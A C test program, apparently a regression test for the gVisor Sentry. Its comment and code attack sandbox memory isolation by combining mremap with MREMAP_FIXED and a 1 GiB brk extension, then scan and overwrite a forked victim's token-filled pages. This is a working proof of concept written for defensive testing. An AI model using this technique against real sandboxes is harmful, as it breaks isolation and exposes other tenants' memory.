/* Attack: mremap a heap page onto the heap's last page (MREMAP_FIXED), so a
 * VMA the Sentry called "heap" has a fresh one-page backing ending at the
 * break, then raise the break by 1 GiB: a Sentry that stretched that VMA
 * showed the memory file past its backing, other processes' memory, in this
 * one. A child (a separate program, exec'd) fills 8 MiB with a token; the
 * parent looks for it in its heap, and writes over the first it finds. It
 * reads its heap through writev to a pipe, as the Sentry reads app memory,
 * so that looking costs no memory for pages never touched.
 * Expected (as on Linux): the heap holds no page of the child's, and the
 * child sees none of its pages written. */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static const char TOKEN[] = "ADV-VICTIM-SECRET-7f3a9c";

static int victim(int ready, int looked) {
  size_t n = 8 << 20;
  char *p = mmap(0, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  for (size_t i = 0; i + sizeof TOKEN <= n; i += 4096) memcpy(p + i, TOKEN, sizeof TOKEN);
  write(ready, "r", 1);
  char c;
  read(looked, &c, 1);
  size_t written = 0;
  for (size_t j = 0; j < n; j += 4096) written += memcmp(p + j, TOKEN, sizeof TOKEN) != 0;
  printf("victim: %zu of its pages written by another process\n", written);
  return 0;
}

int main(int argc, char **argv) {
  if (argc > 3) return victim(atoi(argv[2]), atoi(argv[3]));
  setvbuf(stdout, 0, _IONBF, 0);
  unsigned long b = (syscall(SYS_brk, 0) + 4095) & ~4095UL;
  syscall(SYS_brk, b + 8192);
  void *moved = (void *)syscall(SYS_mremap, b, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, b + 4096);
  printf("mremap onto the last heap page: %s\n", moved == (void *)(b + 4096) ? "moved" : "refused");
  unsigned long want = b + (1UL << 30) - (64UL << 20);
  unsigned long got = syscall(SYS_brk, want);
  printf("brk raised by ~1 GiB: %s\n", got == want ? "yes" : "no");
  int ready[2], looked[2], peek[2];
  pipe(ready);
  pipe(looked);
  pipe(peek);
  pid_t v = fork();
  if (v == 0) {
    char r[16], l[16];
    snprintf(r, sizeof r, "%d", ready[1]);
    snprintf(l, sizeof l, "%d", looked[0]);
    execl("/proc/self/exe", argv[0], "victim", r, l, (char *)0);
    _exit(127);
  }
  char c;
  read(ready[0], &c, 1);
  size_t hits = 0;
  enum { BATCH = 1024, HEAD = sizeof TOKEN - 1 };
  static struct iovec iov[BATCH];
  static char heads[BATCH][HEAD];
  char *page = (char *)(b + 8192);
  while (got == want && page + 4096 <= (char *)got) {
    int k = 0;
    for (; k < BATCH && page + 4096 <= (char *)got; k++, page += 4096) iov[k] = (struct iovec){page, HEAD};
    writev(peek[1], iov, k);
    read(peek[0], heads, (size_t)k * HEAD);
    for (int i = 0; i < k; i++)
      if (memcmp(heads[i], TOKEN, HEAD) == 0) {
        if (!hits) memcpy(iov[i].iov_base, "ATTACKER", 8);
        hits++;
      }
  }
  printf("pages of the victim's seen in the attacker's heap: %zu\n", hits);
  write(looked[1], "l", 1);
  int status;
  waitpid(v, &status, 0);
  return 0;
}
